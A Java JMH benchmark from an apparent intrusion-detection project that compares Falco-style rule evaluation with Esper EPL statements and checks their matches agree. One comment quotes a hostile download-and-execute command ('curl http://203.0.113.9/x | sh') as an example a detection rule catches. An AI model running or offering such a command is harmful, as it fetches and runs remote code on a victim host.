package dev.peregrine.bench.engine;

import com.espertech.esper.common.client.EPCompiled;
import com.espertech.esper.common.client.configuration.Configuration;
import com.espertech.esper.common.client.configuration.compiler.ConfigurationCompilerExecution.FilterIndexPlanning;
import com.espertech.esper.compiler.client.CompilerArguments;
import com.espertech.esper.compiler.client.EPCompilerProvider;
import com.espertech.esper.runtime.client.EPDeployment;
import com.espertech.esper.runtime.client.EPEventService;
import com.espertech.esper.runtime.client.EPRuntime;
import com.espertech.esper.runtime.client.EPRuntimeProvider;
import com.espertech.esper.runtime.client.EPStatement;
import dev.peregrine.alerting.Alert;
import dev.peregrine.bench.harness.BenchHarness;
import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.event.Field;
import dev.peregrine.collector.event.FieldRegistry;
import dev.peregrine.collector.event.FieldType;
import dev.peregrine.collector.ndjson.NdjsonParser;
import dev.peregrine.collector.proctree.ProcessTrees;
import dev.peregrine.engine.cep.CepEventModel;
import dev.peregrine.engine.falco.FalcoRuleEvaluator;
import dev.peregrine.engine.falco.RuleStats;
import dev.peregrine.engine.rules.RuleDef;
import dev.peregrine.engine.rules.RuleFile;
import dev.peregrine.engine.rules.RuleLoader;
import dev.peregrine.engine.rules.RuleSet;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Warmup;
import org.openjdk.jmh.infra.Blackhole;

/**
 * Per-event evaluation of Falco's stable rules plus Peregrine's shipped rules, and of a subset of
 * 25 of their conditions both as Peregrine rules and as Esper EPL filter statements, over the same
 * seeded {@link EventMix}. One operation is one event; every benchmark walks the whole mix.
 *
 * <p>Falco's rules are read from the rules-engine test resources (not shipped with the benchmark):
 * run from the repository root, or set {@code -Dperegrine.bench.falcoRules=PATH}.
 *
 * <p>Esper gets the events as ready-made object-array rows of every registered field (the layout
 * of {@link CepEventModel}); building the rows is done once in setup, not measured. Set-up checks
 * that the subset matches the same number of events, rule by rule, in both engines, on the mix
 * and on the hand-written traces that trigger Falco's rules ({@code falco/upstream-triggers} in the
 * rules-engine test resources, {@code -Dperegrine.bench.falcoTraces=DIR}).
 *
 * <p>The same comparison runs on the subset plus Peregrine's shipped per-event rules
 * ({@code shipped.epl}, the shipped rules written as EPL): {@link #esperStablePlusShipped} is one
 * Esper runtime with both modules deployed, {@link #peregrineStablePlusShippedAsEsper} the subset
 * and exactly the shipped rules that have a statement (the others disabled). Set-up checks those
 * rule by rule too.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 2, time = 2)
@Measurement(iterations = 3, time = 2)
@Fork(1)
public class FalcoVsEsperBenchmark {

    /** Events in the mix; a power of two large enough that branch predictors cannot learn it. */
    static final int MIX = 8192;
    private static final long SEED = 20261122L;
    private static final String EVENT_TYPE = "Ev";
    private static final String SUBSET = "dev/peregrine/bench/engine/falco_subset.yaml";
    private static final String SUBSET_EPL = "dev/peregrine/bench/engine/falco_subset.epl";
    private static final String SHIPPED_EPL = "dev/peregrine/bench/engine/shipped.epl";
    private static final List<Path> FALCO_RULES_CANDIDATES = List.of(
            Path.of("rules-engine/src/test/resources/falco/upstream/falco_rules.yaml"),
            Path.of("../rules-engine/src/test/resources/falco/upstream/falco_rules.yaml"));
    private static final List<Path> TRACE_CANDIDATES = List.of(
            Path.of("rules-engine/src/test/resources/falco/upstream-triggers"),
            Path.of("../rules-engine/src/test/resources/falco/upstream-triggers"));
    /** The shipped rules' own attack/benign traces, one directory per rule (rules module test resources). */
    private static final List<Path> SHIPPED_TRACE_CANDIDATES = List.of(
            Path.of("rules/src/test/resources/traces"),
            Path.of("../rules/src/test/resources/traces"));
    private static final List<Field> FIELDS = List.copyOf(FieldRegistry.standard().fields());

    private Event[] events;
    private Object[][] rows;
    private FalcoRuleEvaluator falcoStable;
    private FalcoRuleEvaluator shipped;
    private FalcoRuleEvaluator subset;
    private EPRuntime esper;
    private EPEventService esperEvents;
    private final Map<String, long[]> esperMatches = new TreeMap<>();
    /** The shipped rules that shipped.epl translates, and only those. */
    private FalcoRuleEvaluator shippedAsEsper;
    /** falco_subset.epl and shipped.epl in one runtime, counted per module: two rule ids occur in both. */
    private EPRuntime esperAll;
    private EPEventService esperAllEvents;
    private final Map<String, long[]> esperAllSubsetMatches = new TreeMap<>();
    private final Map<String, long[]> esperAllShippedMatches = new TreeMap<>();

    @Setup(Level.Trial)
    public void setUp() throws Exception {
        // laid out as Esper's rows are, below: both engines read memory of the same shape
        events = BenchHarness.inArrivalOrder(EventMix.generate(SEED, MIX));
        final RuleLoader loader = new RuleLoader(FieldRegistry.standard());
        // Two evaluators, not one rule set: both files define macros such as open_read, and a
        // later definition would replace the earlier one everywhere.
        falcoStable = new FalcoRuleEvaluator(loader.load(List.of(firstExisting(FALCO_RULES_CANDIDATES,
                "peregrine.bench.falcoRules"))));
        shipped = new FalcoRuleEvaluator(loader.loadFiles(shippedRules()));
        final RuleSet subsetRules = loader.loadFiles(List.of(RuleFile.ofResource(classLoader(), SUBSET)));
        subset = new FalcoRuleEvaluator(subsetRules);
        final Configuration configuration = esperConfiguration();
        esper = startEsper(configuration, "falco-vs-esper-");
        deploy(esper, configuration, SUBSET_EPL, esperMatches);
        esperEvents = esper.getEventService();
        esperAll = startEsper(configuration, "falco-vs-esper-all-");
        deploy(esperAll, configuration, SUBSET_EPL, esperAllSubsetMatches);
        // Esper 8.9.0's default (advanced) filter index planning loses matches of shipped.epl
        // statements shaped (a like or b) and c like, e.g. pipe_to_shell_download on
        // "-c id; curl http://203.0.113.9/x | sh"; basic planning matches them. falco_subset.epl
        // stays compiled as in esperSubset.
        final Configuration basicPlanning = esperConfiguration();
        basicPlanning.getCompiler().getExecution().setFilterIndexPlanning(FilterIndexPlanning.BASIC);
        deploy(esperAll, basicPlanning, SHIPPED_EPL, esperAllShippedMatches);
        esperAllEvents = esperAll.getEventService();
        final RuleSet shippedKept = shippedRulesWithStatements(loader, esperAllShippedMatches.keySet());
        shippedAsEsper = new FalcoRuleEvaluator(shippedKept);
        rows = new Object[events.length][];
        for (int i = 0; i < events.length; i++) {
            rows[i] = row(events[i]);
        }
        final Path traces = firstExisting(TRACE_CANDIDATES, "peregrine.bench.falcoTraces");
        final List<Event> handWritten = new ArrayList<>(readTrace(traces.resolve("triggers.ndjson")));
        handWritten.addAll(readTrace(traces.resolve("lookalikes.ndjson")));
        System.out.println("subset matches on the upstream trigger traces (peregrine = esper): "
                + checkSubsetAgrees(subsetRules, handWritten));
        System.out.println("subset matches on the mix (peregrine = esper): " + checkSubsetAgrees(subsetRules,
                List.of(events)));
        final List<Pairing> all = List.of(new Pairing("subset", subsetRules, esperAllSubsetMatches),
                new Pairing("shipped", shippedKept, esperAllShippedMatches));
        System.out.println("subset + shipped (" + shippedKept.activeRules().size() + " shipped rules) matches on the"
                + " upstream trigger traces (peregrine = esper): " + checkAgrees(esperAllEvents, all, handWritten));
        // The upstream traces barely touch the shipped rules; their own traces trigger each of them.
        final List<Event> shippedTraces = new ArrayList<>();
        for (final Path trace : shippedTraceFiles(firstExisting(SHIPPED_TRACE_CANDIDATES,
                "peregrine.bench.shippedTraces"))) {
            shippedTraces.addAll(readTrace(trace, NdjsonParser.Format.AUTO));
        }
        System.out.println("subset + shipped matches on the shipped rules' attack/benign traces ("
                + shippedTraces.size() + " events, peregrine = esper): "
                + checkAgrees(esperAllEvents, all, shippedTraces));
        System.out.println("subset + shipped matches on the mix (peregrine = esper): "
                + checkAgrees(esperAllEvents, all, List.of(events)));
    }

    /**
     * The shipped rules, with every active per-event rule that has no statement in
     * {@code statementIds} switched off (Falco's {@code - rule: name / enabled: false}), so that the
     * Peregrine side evaluates the real shipped conditions of exactly the rules Esper has.
     */
    private static RuleSet shippedRulesWithStatements(final RuleLoader loader, final Set<String> statementIds)
            throws Exception {
        final RuleSet all = loader.loadFiles(shippedRules());
        final StringBuilder disable = new StringBuilder();
        final List<String> leftOut = new ArrayList<>();
        for (final RuleDef rule : all.activeRules()) {
            if (!statementIds.contains(rule.id())) {
                leftOut.add(rule.id());
                disable.append("- rule: \"").append(rule.name().replace("\\", "\\\\").replace("\"", "\\\""))
                        .append("\"\n  enabled: false\n");
            }
        }
        System.out.println("shipped per-event rules without an EPL statement, left out of both engines: " + leftOut);
        if (leftOut.isEmpty()) {
            return all;
        }
        final List<RuleFile> files = new ArrayList<>(shippedRules());
        files.add(new RuleFile("shipped-without-epl.yaml", disable.toString()));
        return loader.loadFiles(files);
    }

    /** {@code event} as an {@code Ev} row: every registered field in slot order, absent ones null. */
    private static Object[] row(final Event event) {
        final Object[] row = new Object[FIELDS.size()];
        for (int f = 0; f < row.length; f++) {
            row[f] = event.get(FIELDS.get(f));
        }
        return row;
    }

    /** A native NDJSON trace, through a process tree, with its {@code test.expect} extras ignored. */
    private static List<Event> readTrace(final Path trace) throws Exception {
        return readTrace(trace, NdjsonParser.Format.NATIVE);
    }

    /** The {@code *.ndjson} files one level below {@code dir}, sorted. */
    private static List<Path> shippedTraceFiles(final Path dir) throws IOException {
        try (var files = Files.walk(dir, 2)) {
            return files.filter(p -> p.getFileName().toString().endsWith(".ndjson")).sorted().toList();
        }
    }

    /** An NDJSON trace in {@code format}, through a process tree. */
    private static List<Event> readTrace(final Path trace, final NdjsonParser.Format format) throws Exception {
        final NdjsonParser parser = new NdjsonParser(format);
        final ProcessTrees trees = ProcessTrees.withDefaults();
        final List<Event> parsed = new ArrayList<>();
        for (final String line : Files.readAllLines(trace, StandardCharsets.UTF_8)) {
            if (!line.isBlank()) {
                final byte[] bytes = line.getBytes(StandardCharsets.UTF_8);
                parsed.add(trees.enrich(parser.parse(bytes, 0, bytes.length)));
            }
        }
        return parsed;
    }

    @TearDown(Level.Trial)
    public void tearDown() {
        esper.destroy();
        esperAll.destroy();
    }

    private static ClassLoader classLoader() {
        return FalcoVsEsperBenchmark.class.getClassLoader();
    }

    /** The path system property {@code property} names, else the first candidate that exists. */
    private static Path firstExisting(final List<Path> candidates, final String property) {
        final String configured = System.getProperty(property);
        if (configured != null) {
            return Path.of(configured);
        }
        return candidates.stream().filter(Files::exists).findFirst()
                .orElseThrow(() -> new IllegalStateException("not found at " + candidates
                        + "; run from the repository root or set -D" + property + "=PATH"));
    }

    private static List<RuleFile> shippedRules() throws IOException {
        final List<RuleFile> files = new ArrayList<>();
        try (BufferedReader index = new BufferedReader(new InputStreamReader(
                classLoader().getResourceAsStream("peregrine/rules/index.txt"), StandardCharsets.UTF_8))) {
            for (String line = index.readLine(); line != null; line = index.readLine()) {
                if (!line.isBlank() && !line.startsWith("#")) {
                    files.add(RuleFile.ofResource(classLoader(), "peregrine/rules/" + line.strip()));
                }
            }
        }
        return files;
    }

    /** The {@code Ev} event type: every registered field, in slot order, named as {@link CepEventModel} does. */
    private static Configuration esperConfiguration() {
        final Configuration configuration = new Configuration();
        configuration.getRuntime().getThreading().setInternalTimerEnabled(false);
        final String[] names = new String[FIELDS.size()];
        final Object[] types = new Object[FIELDS.size()];
        for (int i = 0; i < names.length; i++) {
            names[i] = CepEventModel.propertyName(FIELDS.get(i).name());
            types[i] = javaType(FIELDS.get(i).type());
        }
        configuration.getCommon().addEventType(EVENT_TYPE, names, types);
        return configuration;
    }

    private static EPRuntime startEsper(final Configuration configuration, final String name) {
        final EPRuntime runtime = EPRuntimeProvider.getRuntime(name + System.nanoTime(), configuration);
        runtime.initialize();
        return runtime;
    }

    /** Deploys the EPL resource {@code resource} and counts each statement's matches in {@code counts}, by name. */
    private static void deploy(final EPRuntime runtime, final Configuration configuration, final String resource,
                               final Map<String, long[]> counts) throws Exception {
        final String epl = new String(classLoader().getResourceAsStream(resource).readAllBytes(), StandardCharsets.UTF_8);
        final EPCompiled compiled = EPCompilerProvider.getCompiler().compile(epl, new CompilerArguments(configuration));
        final EPDeployment deployment = runtime.getDeploymentService().deploy(compiled);
        for (final EPStatement statement : deployment.getStatements()) {
            final long[] count = new long[1];
            if (counts.put(statement.getName(), count) != null) {
                throw new IllegalStateException(resource + " names two statements " + statement.getName());
            }
            statement.addListener((newEvents, oldEvents, stmt, rt) -> count[0] += newEvents.length);
        }
    }

    private static Class<?> javaType(final FieldType type) {
        return switch (type) {
            case STRING -> String.class;
            case INT, TIMESTAMP -> Long.class;
            case BOOL -> Boolean.class;
        };
    }

    /**
     * Runs {@code sample} through the subset in both engines and fails when any rule matched a
     * different number of events; returns the rules that matched, with their counts.
     */
    private Map<String, Long> checkSubsetAgrees(final RuleSet subsetRules, final List<Event> sample) {
        return checkAgrees(esperEvents, List.of(new Pairing("subset", subsetRules, esperMatches)), sample)
                .get("subset");
    }

    /** Rules and the Esper statements (their match counters, by statement name = rule id) that translate them. */
    private record Pairing(String label, RuleSet rules, Map<String, long[]> esperCounts) {
    }

    /**
     * Runs {@code sample} once through {@code service} (where every pairing's statements are
     * deployed) and through a fresh evaluator per pairing; fails when a rule and its statement
     * matched a different number of events, or when a pairing's active rule ids and statement names
     * differ. Returns, per pairing label, the rules that matched, with their counts.
     */
    private static Map<String, Map<String, Long>> checkAgrees(final EPEventService service,
                                                              final List<Pairing> pairings, final List<Event> sample) {
        final List<FalcoRuleEvaluator> fresh = new ArrayList<>();
        for (final Pairing pairing : pairings) {
            fresh.add(new FalcoRuleEvaluator(pairing.rules()));
            pairing.esperCounts().values().forEach(count -> count[0] = 0);
        }
        for (final Event event : sample) {
            for (final FalcoRuleEvaluator evaluator : fresh) {
                evaluator.onEvent(event, alert -> { });
            }
            service.sendEventObjectArray(row(event), EVENT_TYPE);
        }
        final List<String> differences = new ArrayList<>();
        final Map<String, Map<String, Long>> matchedByLabel = new LinkedHashMap<>();
        for (int p = 0; p < pairings.size(); p++) {
            final Pairing pairing = pairings.get(p);
            final Map<String, Long> matched = new TreeMap<>();
            final Set<String> ruleIds = new TreeSet<>();
            for (final RuleStats.Counts counts : fresh.get(p).stats().snapshot()) {
                ruleIds.add(counts.ruleId());
                final long[] esperCount = pairing.esperCounts().get(counts.ruleId());
                final long esperMatched = esperCount == null ? -1 : esperCount[0];
                if (esperMatched != counts.matched()) {
                    differences.add(pairing.label() + " " + counts.ruleId() + ": peregrine " + counts.matched()
                            + ", esper " + esperMatched);
                }
                if (counts.matched() > 0) {
                    matched.put(counts.ruleId(), counts.matched());
                }
            }
            if (!ruleIds.equals(pairing.esperCounts().keySet())) {
                differences.add(pairing.label() + ": rules " + ruleIds + " but statements "
                        + pairing.esperCounts().keySet());
            }
            matchedByLabel.put(pairing.label(), matched);
        }
        if (!differences.isEmpty()) {
            throw new IllegalStateException("the EPL translation disagrees with the rules: " + differences);
        }
        return matchedByLabel;
    }

    @Benchmark
    @OperationsPerInvocation(MIX)
    public void peregrineFalcoStablePlusShipped(final Blackhole sink) {
        final Consumer<Alert> alerts = sink::consume;
        for (final Event event : events) {
            falcoStable.onEvent(event, alerts);
            shipped.onEvent(event, alerts);
        }
    }

    @Benchmark
    @OperationsPerInvocation(MIX)
    public void peregrineFalcoStable(final Blackhole sink) {
        final Consumer<Alert> alerts = sink::consume;
        for (final Event event : events) {
            falcoStable.onEvent(event, alerts);
        }
    }

    @Benchmark
    @OperationsPerInvocation(MIX)
    public void peregrineSubset(final Blackhole sink) {
        final Consumer<Alert> alerts = sink::consume;
        for (final Event event : events) {
            subset.onEvent(event, alerts);
        }
    }

    @Benchmark
    @OperationsPerInvocation(MIX)
    public void esperSubset(final Blackhole sink) {
        for (final Object[] row : rows) {
            esperEvents.sendEventObjectArray(row, EVENT_TYPE);
        }
        sink.consume(esperMatches);
    }

    /** The subset and the shipped rules that have a statement, as Peregrine runs them. */
    @Benchmark
    @OperationsPerInvocation(MIX)
    public void peregrineStablePlusShippedAsEsper(final Blackhole sink) {
        final Consumer<Alert> alerts = sink::consume;
        for (final Event event : events) {
            subset.onEvent(event, alerts);
            shippedAsEsper.onEvent(event, alerts);
        }
    }

    /** The same rules as {@link #peregrineStablePlusShippedAsEsper}, as EPL in one Esper runtime. */
    @Benchmark
    @OperationsPerInvocation(MIX)
    public void esperStablePlusShipped(final Blackhole sink) {
        for (final Object[] row : rows) {
            esperAllEvents.sendEventObjectArray(row, EVENT_TYPE);
        }
        sink.consume(esperAllShippedMatches);
    }
}
